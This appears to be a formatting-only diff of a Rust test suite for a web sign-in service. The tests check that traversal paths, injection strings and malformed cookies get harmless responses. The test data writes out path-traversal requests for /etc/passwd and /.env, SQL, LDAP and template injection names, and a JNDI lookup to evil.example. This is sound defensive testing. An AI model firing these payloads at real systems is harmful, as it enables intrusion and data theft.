@@ -4,10 +4,32 @@ use crate::kit::*;
 use std::time::Duration;
 
 const PATHS: [&str; 26] = [
-    "/static/..%2f..%2fetc/passwd", "/static/%2e%2e/%2e%2e/etc/passwd", "/static/..%5c..%5cetc", "/b/contoso/..%2f..%2fetc%2fpasswd",
-    "/b/contoso/%00", "/b/%00/x", "/b/../sign-in", "//sign-in", "/./account", "/%2e/account", "/account;x", "/account/..;/", "/ACCOUNT",
-    "/account%2f", "/account/", "/account.", "/account%20", "/forgot/password;x", "/forgot//password", "/.git/config", "/.env", "/metrics",
-    "/admin", "/openapi.json", "/forgot/code%00", "/%ff",
+    "/static/..%2f..%2fetc/passwd",
+    "/static/%2e%2e/%2e%2e/etc/passwd",
+    "/static/..%5c..%5cetc",
+    "/b/contoso/..%2f..%2fetc%2fpasswd",
+    "/b/contoso/%00",
+    "/b/%00/x",
+    "/b/../sign-in",
+    "//sign-in",
+    "/./account",
+    "/%2e/account",
+    "/account;x",
+    "/account/..;/",
+    "/ACCOUNT",
+    "/account%2f",
+    "/account/",
+    "/account.",
+    "/account%20",
+    "/forgot/password;x",
+    "/forgot//password",
+    "/.git/config",
+    "/.env",
+    "/metrics",
+    "/admin",
+    "/openapi.json",
+    "/forgot/code%00",
+    "/%ff",
 ];
 
 on_both!(an_address_that_does_not_exist_is_not_found_however_it_is_written, |app| async {
@@ -31,7 +53,8 @@ on_both!(a_page_that_is_not_found_is_the_same_for_everybody, |app| async {
     let one = browser.get("/report/aaaa").await;
     let two = browser.get("/report/bbbb").await;
     assert_eq!(one.masked("x").replace("aaaa", "bbbb"), two.masked("x"));
-    let (one, two) = (browser.get("/b/contoso/nothing.png").await, browser.get("/b/nobody/nothing.png").await);
+    let (one, two) =
+        (browser.get("/b/contoso/nothing.png").await, browser.get("/b/nobody/nothing.png").await);
     assert_eq!((one.status, two.status), (404, 404));
 });
 
@@ -64,15 +87,35 @@ on_both!(a_database_that_does_not_answer_gives_a_page_and_comes_back, |app| asyn
 
 on_both!(hostile_names_are_only_names, |app| async {
     let names = [
-        "' OR '1'='1", "alex'; DROP TABLE users; --", "*", "a*", ")(uid=*", "*)(|(uid=*", "\\2a", "admin)(&))(", ",+\"\\<>;=#", "{{7*7}}",
-        "${jndi:ldap://evil.example}", "%s%s%n", "\u{202e}xela", "null", "undefined", "-1", "9999999999999999999999", "\"}{\"level\":\"info\"",
+        "' OR '1'='1",
+        "alex'; DROP TABLE users; --",
+        "*",
+        "a*",
+        ")(uid=*",
+        "*)(|(uid=*",
+        "\\2a",
+        "admin)(&))(",
+        ",+\"\\<>;=#",
+        "{{7*7}}",
+        "${jndi:ldap://evil.example}",
+        "%s%s%n",
+        "\u{202e}xela",
+        "null",
+        "undefined",
+        "-1",
+        "9999999999999999999999",
+        "\"}{\"level\":\"info\"",
     ];
     for name in names {
         assert_eq!(app.browser().try_sign_in(name, "wrong password").await.status, 422, "{name}");
         let browser = app.browser();
         assert_eq!(browser.forgot(name).await.status, 303, "{name}");
         let page = browser.get("/forgot/code").await;
-        assert!(page.status == 200 && page.main().contains(name.trim_matches('\u{202e}')), "{name}: {}", page.main());
+        assert!(
+            page.status == 200 && page.main().contains(name.trim_matches('\u{202e}')),
+            "{name}: {}",
+            page.main()
+        );
     }
     assert_eq!(app.mails().len(), 0);
 });
@@ -81,7 +124,9 @@ on_both!(hostile_cookies_are_only_cookies, |app| async {
     let browser = app.browser();
     let token = browser.get("/sign-in").await.csrf();
     for value in [&*token, "x", "%00", "../../x", &"a".repeat(3_000), "null", "{}"] {
-        for name in ["latchkey-session", "latchkey-flow", "latchkey-realm", "latchkey-language", "latchkey-visit"] {
+        for name in
+            ["latchkey-session", "latchkey-flow", "latchkey-realm", "latchkey-language", "latchkey-visit"]
+        {
             let browser = app.browser();
             browser.set_cookie(name, value);
             assert_eq!(browser.get("/sign-in").await.status, 200, "{name}={value}");
@@ -96,7 +141,14 @@ on_both!(the_first_run_page_is_closed_once_there_is_a_tenant, |app| async {
     assert_eq!(browser.get("/setup").await.status, 404);
     assert_eq!(browser.get("/setup?token=").await.status, 404);
     let token = browser.get("/sign-in").await.csrf();
-    let fields = [("csrf", &*token), ("organization", "Evil"), ("realm", "evil.example"), ("username", "x"), ("mail", "x@evil.example"), ("password", NEXT)];
+    let fields = [
+        ("csrf", &*token),
+        ("organization", "Evil"),
+        ("realm", "evil.example"),
+        ("username", "x"),
+        ("mail", "x@evil.example"),
+        ("password", NEXT),
+    ];
     assert_eq!(browser.post("/setup", &fields).await.status, 404);
     app.execute("UPDATE users SET disabled_at = 1 WHERE role = 'admin'");
     assert_eq!(browser.get("/setup").await.status, 404, "even when no administrator is left");
@@ -115,5 +167,7 @@ on_both!(a_password_manager_finds_its_way, |app| async {
     browser.prove_alex(&app).await;
     let page = browser.get("/forgot/password").await;
     assert_eq!(page.attribute("#new_password", "autocomplete").as_deref(), Some("new-password"));
-    assert!(page.attribute("#new_password", "passwordrules").unwrap().contains("minlength: 15; maxlength: 256"));
+    assert!(
+        page.attribute("#new_password", "passwordrules").unwrap().contains("minlength: 15; maxlength: 256")
+    );
 });
